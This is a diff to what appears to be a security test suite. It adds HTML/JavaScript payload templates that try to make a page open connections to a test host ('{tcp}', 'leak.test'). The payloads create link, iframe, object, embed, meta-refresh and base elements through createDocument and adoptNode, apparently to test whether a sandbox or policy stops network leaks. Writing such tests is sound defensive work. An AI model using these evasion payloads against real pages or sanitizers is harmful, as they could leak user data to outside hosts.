@@ -234,6 +234,26 @@ BY_ITSELF = {
         "{{extends: 'link'}}); const l = new L(); l.rel = 'preconnect'; l.href = 'http://{tcp}';"
         "document.head.append(l) }} catch {{}}</script>"
     ),
+    "preconnect of a document": (
+        "<script>const {{ implementation }} = document, xhtml = 'http://www.w3.org/1999/xhtml';"
+        "for (const name of ['link', 'h:link', {{toString: () => 'link'}}]) {{"
+        "const l = implementation.createDocument(xhtml, name).documentElement;"
+        "l.setAttribute('rel', 'preconnect'); l.setAttribute('href', 'http://{tcp}');"
+        "for (const way of [() => document.head.append(document.adoptNode(l.cloneNode(true))),"
+        "() => document.head.append(document.importNode(l, true)), () => document.head.append(l)])"
+        "  try {{ way() }} catch {{}} }}</script>"
+    ),
+    "elements of a document": (
+        "<p>x</p><script>const xhtml = 'http://www.w3.org/1999/xhtml';"
+        "for (const [name, attributes] of [['iframe', {{src: 'http://{tcp}/{name}'}}],"
+        "['object', {{data: 'http://{tcp}/{name}'}}], ['embed', {{src: 'http://{tcp}/{name}'}}],"
+        "['meta', {{'http-equiv': 'refresh', content: '0;url=http://{tcp}/{name}'}}],"
+        "['base', {{href: 'http://{tcp}/{name}/'}}], ['link', {{rel: 'dns-prefetch', "
+        "href: '//{name}.leak.test'}}]]) {{"
+        "const e = document.implementation.createDocument(xhtml, name).documentElement;"
+        "for (const key in attributes) e.setAttribute(key, attributes[key]);"
+        "document.body.append(document.adoptNode(e)) }}</script>"
+    ),
     "preconnect of pieces of a text": (
         "<script>onload = () => {{ document.open();"
         "for (const piece of ['<', 'li', 'nk rel=preconnect ', \"href='http://{tcp}'>\"])"
